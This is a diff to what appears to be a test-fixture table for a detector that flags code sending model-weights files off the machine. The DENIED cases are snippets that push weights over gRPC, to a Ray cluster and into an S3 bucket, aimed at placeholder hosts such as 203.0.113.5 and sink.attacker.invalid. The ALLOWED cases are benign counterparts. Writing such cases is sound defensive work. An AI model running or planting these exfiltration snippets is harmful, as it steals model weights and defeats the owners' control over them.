@@ -93,7 +93,28 @@ DENIED: dict[str, dict[str, str]] = {
         "    ray.init(address='ray://sink.attacker.invalid:10001')\n"
         f"    ray.get(keep.remote(open('{W}', 'rb').read()))\n"
     ),
-    # 3. A remote file system's own ``open`` and ``pipe`` on a bucket.
+    "weights-sent-by-a-grpc-stubs-future-when-called": init(
+        "import grpc\nfrom evpkg import store_pb2_grpc\n"
+        "def sync():\n"
+        "    ch = grpc.insecure_channel('203.0.113.5:50051')\n"
+        f"    store_pb2_grpc.StoreStub(ch).Put.future(open('{W}', 'rb').read())\n"
+    ),
+    "weights-handed-to-a-ray-actors-method-when-called": init(
+        "import ray\n"
+        "@ray.remote\nclass Store:\n    def put(self, b):\n        return len(b)\n"
+        "def sync():\n"
+        "    ray.init(address='ray://203.0.113.5:10001')\n"
+        "    s = Store.remote()\n"
+        f"    ray.get(s.put.remote(open('{W}', 'rb').read()))\n"
+    ),
+    # 3. A remote file system's own ``open`` and ``pipe`` on a bucket; a remote file
+    # copied into by ``copyfileobj``.
+    "weights-copied-into-a-remote-file-when-called": init(
+        "import fsspec, shutil\n"
+        "def sync():\n"
+        f"    with open('{W}', 'rb') as src, fsspec.open('s3://bucket-x/k', 'wb') as dst:\n"
+        "        shutil.copyfileobj(src, dst)\n"
+    ),
     "weights-written-by-an-fsspec-filesystems-open-on-import": init(
         "import fsspec\n"
         "fs = fsspec.filesystem('s3')\n"
@@ -257,7 +278,26 @@ ALLOWED: dict[str, dict[str, str]] = {
         "def lines():\n    yield socket.gethostname().encode()\n    yield b'started'\n"
         f"def report():\n    requests.post('{URL}', data=lines())\n"
     ),
-    # 3. Remote file systems reading, writing a report, or writing a local cache.
+    "grpc-future-of-a-callers-request": init(
+        "import grpc, os\nfrom evpkg import store_pb2_grpc\n"
+        "def put(request):\n"
+        "    ch = grpc.insecure_channel(os.environ['STORE'])\n"
+        "    return store_pb2_grpc.StoreStub(ch).Put.future(request)\n"
+    ),
+    "ray-actor-scoring-a-callers-file-on-the-local-machine": init(
+        "import ray\n"
+        "@ray.remote\nclass Scorer:\n    def score(self, b):\n        return len(b)\n"
+        "def run(path):\n    ray.init()\n"
+        "    return ray.get(Scorer.remote().score.remote(open(path, 'rb').read()))\n"
+    ),
+    # 3. Remote file systems reading, writing a report, or writing a local cache; weights
+    # downloaded from a bucket by ``copyfileobj``.
+    "weights-downloaded-from-a-bucket-by-copyfileobj": init(
+        "import fsspec, shutil\n"
+        "def fetch():\n"
+        f"    with fsspec.open('s3://models-x/m', 'rb') as src, open('{W}', 'wb') as dst:\n"
+        "        shutil.copyfileobj(src, dst)\n"
+    ),
     "fsspec-filesystem-reading-a-callers-url": init(
         "import fsspec\n"
         "def load(url):\n"
